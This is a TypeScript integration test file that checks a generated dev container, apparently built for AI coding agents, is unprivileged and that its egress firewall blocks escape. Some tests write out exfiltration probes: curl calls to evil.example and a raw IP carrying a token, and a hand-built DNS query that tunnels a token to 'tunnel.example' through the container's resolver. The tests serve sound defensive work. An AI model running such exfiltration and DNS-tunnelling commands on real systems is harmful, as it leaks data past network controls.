import { type ChildProcess, spawn } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newToken } from '../firewall/attacks/attack.js';
import { byOddDns } from '../firewall/attacks/dns.js';
import { attacks } from '../firewall/attacks.js';
import {
  escapes,
  forgesNoAnswers,
  isUnprivileged,
  lendsNoRights,
  reachesAllowedNames,
  refusesAttacks,
} from '../firewall/checks.js';
import { type Internet, startInternet } from '../firewall/internet.js';
import { listedNames } from '../firewall/listed.js';
import { must, run } from '../firewall/run.js';
import { installAttacks, type Scene } from '../firewall/target.js';
import {
  bringUp,
  type DevContainer,
  devContainer,
  docker,
  missingEngine,
  plainContainer,
  removeContainers,
} from './engine.js';
import { freePort, joinInternet, newProject, removeProjects, startControl } from './project.js';

const skip = missingEngine() !== undefined;

let internet: Internet;
beforeAll(async () => {
  if (!skip) internet = await startInternet();
});

afterAll(() => {
  removeProjects();
  internet?.stop();
});

describe.skipIf(skip)('the container that init writes', () => {
  let container: DevContainer;
  let control: string;
  let servers: ChildProcess;
  let gateway: string;
  let forwarded: number;
  let neighbour: number;
  let log: string;

  beforeAll(async () => {
    // What `host-gateway` stands for: the bridge's address. The engine tells it only of networks that somebody configured.
    gateway = /inet ([0-9.]+)/.exec(must('ip', ['-4', '-o', 'address', 'show', 'docker0']))?.[1] ?? '';
    expect(gateway).not.toBe('');
    [forwarded, neighbour] = [await freePort(gateway), await freePort(gateway)];
    const mcp = `tracker=${forwarded}`;
    const folder = newProject(
      '--stack',
      'node,python',
      '--agent',
      'claude-code',
      '--mcp',
      mcp,
      ...listedNames,
    );
    joinInternet(internet, folder);
    log = join(folder, 'host.log');
    writeFileSync(log, '');
    // It ends with its standard input, so also when this run is killed.
    servers = spawn(
      process.execPath,
      [join(import.meta.dirname, 'host-server.mjs'), log, gateway, `${forwarded}`, `${neighbour}`],
      { stdio: ['pipe', 'inherit', 'inherit'] },
    );
    container = devContainer(folder);
    control = startControl(internet, docker('inspect', '--format', '{{.Image}}', container.id));
    await installAttacks(container, plainContainer(control));
    expect(readFileSync(log, 'utf8')).toContain('ready');
  });

  afterAll(() => {
    servers?.kill();
    run('docker', ['rm', '--force', control]);
  });

  const target = (): DevContainer => container;
  const scene: Scene = { internet: () => internet, target, control: () => plainContainer(control) };

  describe.each(['first start', 'after docker restart'])('%s', (when) => {
    beforeAll(async () => {
      if (when === 'first start') return;
      docker('restart', container.id);
      expect((await container.exec('/usr/local/bin/harden-ready')).code).toBe(0);
    });

    isUnprivileged(target);
    lendsNoRights(target);
    reachesAllowedNames(scene, ['4']);
    forgesNoAnswers(scene);
    // After a restart one attack in six says whether the firewall is there again.
    refusesAttacks(
      scene,
      [...attacks, ...byOddDns].filter(
        (one, index) => !one.ipv6 && (when === 'first start' || index % 6 === 0),
      ),
    );

    it('reaches the forwarded MCP server, from the address in .mcp.json', async () => {
      const config = JSON.parse(readFileSync(join(container.folder, '.mcp.json'), 'utf8'));
      const { url } = config.mcpServers.tracker as { url: string };
      expect(url).toBe(`http://127.0.0.1:${forwarded}/mcp`);
      const request = '{"jsonrpc":"2.0","id":7,"method":"initialize"}';
      const { stdout } = await container.exec(
        `curl -sS -m 5 -H 'Content-Type: application/json' -d '${request}' ${url}`,
      );
      expect(JSON.parse(stdout)).toEqual({
        jsonrpc: '2.0',
        id: 7,
        result: { serverInfo: { name: `on-${forwarded}` } },
      });
    });

    it('reaches no other port of the host, and not even that one directly', async () => {
      const direct = (port: number): string => `curl -sS -m 4 http://host.docker.internal:${port}/`;
      const byAddress = (port: number): string => `curl -sS -m 4 http://${gateway}:${port}/`;
      expect(run('docker', ['exec', control, 'bash', '-c', byAddress(neighbour)]).code).toBe(0);
      for (const port of [forwarded, neighbour]) {
        expect((await container.exec(direct(port))).code).not.toBe(0);
        expect((await container.exec(byAddress(port))).code).not.toBe(0);
      }
      expect((await container.exec(`curl -sS -m 4 http://127.0.0.1:${neighbour}/`)).code).not.toBe(0);
    });

    it('reaches itself', async () => {
      const server = `require('http').createServer((_, answer) => answer.end('hi')).listen(3000, '127.0.0.1')`;
      const script = `node -e "${server}" & for i in $(seq 100); do curl -s http://127.0.0.1:3000/ && break; sleep 0.1; done; kill %1`;
      expect((await container.attempt(script)).stdout).toBe('hi');
    });

    it('starts a killed helper again, and stays closed meanwhile', async () => {
      docker('exec', '--user', 'root', container.id, 'pkill', '-9', 'dnsmasq');
      const token = newToken();
      await container.exec(
        `curl -sS -m 4 http://evil.example/${token}; curl -sS -m 4 http://198.18.0.66/${token}`,
      );
      expect(await escapes(scene, token)).toBe(false);
      const back = await container.exec(
        'for i in $(seq 50); do curl -sS -m 5 http://allowed.example/ >/dev/null && exit 0; sleep 0.1; done; exit 1',
      );
      expect(back.code).toBe(0);
    });
  });

  it('has the agent at the version of the preset, its state in a volume of this container', async () => {
    const preset = JSON.parse(
      readFileSync(join(import.meta.dirname, '..', '..', 'presets', 'agents', 'claude-code.json'), 'utf8'),
    );
    const version = await container.exec('claude --version');
    expect(version.stdout).toContain(preset.version);
    expect(
      (
        await container.exec('touch "$CLAUDE_CONFIG_DIR/kept" && stat -c %U "$CLAUDE_CONFIG_DIR/kept"')
      ).stdout.trim(),
    ).toBe('dev');
    const mounts = JSON.parse(docker('inspect', '--format', '{{json .Mounts}}', container.id)) as {
      Type: string;
      Name?: string;
      Destination: string;
    }[];
    expect(mounts.find((mount) => mount.Destination === '/home/dev/.claude')).toMatchObject({
      Type: 'volume',
    });
    expect(
      mounts
        .filter((mount) => mount.Type === 'bind')
        .map((mount) => mount.Destination)
        .sort(),
    ).toEqual([
      `/workspaces/${container.folder.split('/').at(-1)}`,
      `/workspaces/${container.folder.split('/').at(-1)}/.devcontainer`,
      `/workspaces/${container.folder.split('/').at(-1)}/.git`,
      `/workspaces/${container.folder.split('/').at(-1)}/.git/hooks`,
    ]);
  });

  it('does not start when a firewall step fails', () => {
    const path = join(container.folder, '.devcontainer', 'allowlist');
    const before = readFileSync(path, 'utf8');
    writeFileSync(path, `${before}not a host name\n`);
    try {
      const outcome = bringUp(container.folder);
      expect(outcome.code).not.toBe(0);
      const { containerId } = JSON.parse(outcome.stdout.trim().split('\n').at(-1) ?? '{}') as {
        containerId: string;
      };
      expect(must('docker', ['wait', containerId], { timeout: 30_000 })).toBe('1');
      expect(run('docker', ['logs', containerId]).stderr).toMatch(
        /allowlist line \d+: 'not a host name' has more than one word/,
      );
    } finally {
      writeFileSync(path, before);
    }
  });
});

describe.skipIf(skip)('on a user-defined network with IPv6', () => {
  let container: DevContainer;
  let control: string;
  const network = `harden-${process.pid}`;

  beforeAll(async () => {
    docker(
      'network',
      'create',
      '--ipv6',
      '--subnet',
      '198.19.0.0/24',
      '--subnet',
      '2001:2:0:1::/64',
      network,
    );
    const folder = newProject('--stack', 'python', '--agent', 'none', ...listedNames);
    joinInternet(internet, folder, `--network=${network}`);
    container = devContainer(folder);
    control = startControl(
      internet,
      docker('inspect', '--format', '{{.Image}}', container.id),
      `--network=${network}`,
    );
    await installAttacks(container, plainContainer(control));
  });

  afterAll(() => {
    removeContainers(container.folder);
    run('docker', ['rm', '--force', control]);
    run('docker', ['network', 'rm', network]);
  });

  const target = (): DevContainer => container;
  const scene: Scene = { internet: () => internet, target, control: () => plainContainer(control) };
  isUnprivileged(target);
  lendsNoRights(target);
  reachesAllowedNames(scene, ['4', '6']);
  forgesNoAnswers(scene);
  refusesAttacks(scene, attacks);

  it('reaches a name that has only an IPv6 address', async () => {
    const { stdout } = await container.attempt('curl -6 -sS -k -m 5 https://six.example/');
    expect(stdout).toBe('from 2001:2::10');
  });

  it("refuses the engine's embedded resolver at its port and at the hidden one behind it", async () => {
    const hidden = docker(
      'exec',
      '--user',
      'root',
      container.id,
      'sh',
      '-c',
      "iptables -t nat -S | sed -n 's/.*--to-destination //p'",
    ).split('\n');
    expect(hidden.length).toBeGreaterThan(0);
    for (const where of ['127.0.0.11:53', ...hidden]) {
      const token = newToken();
      const [address, port] = where.split(':');
      await container.exec(
        `printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x${token.length.toString(16).padStart(2, '0')}${token}\\x06tunnel\\x07example\\x00\\x00\\x01\\x00\\x01' >/dev/udp/${address}/${port}`,
      );
      expect(await escapes(scene, token), where).toBe(false);
    }
  });

  it('keeps neighbours on the network out', async () => {
    const address = docker(
      'inspect',
      '--format',
      `{{(index .NetworkSettings.Networks "${network}").IPAddress}}`,
      container.id,
    );
    const listen = docker(
      'exec',
      '--detach',
      '--user',
      'dev',
      container.id,
      'python3',
      '-m',
      'http.server',
      '9001',
    );
    expect(listen).toBe('');
    expect(
      (
        await container.exec(
          'for i in $(seq 30); do curl -sS -m 1 http://127.0.0.1:9001/ >/dev/null && exit 0; sleep 0.1; done; exit 1',
        )
      ).code,
    ).toBe(0);
    expect(
      run('docker', ['exec', control, 'curl', '-sS', '-m', '2', `http://${address}:9001/`]).code,
    ).not.toBe(0);
  });
});
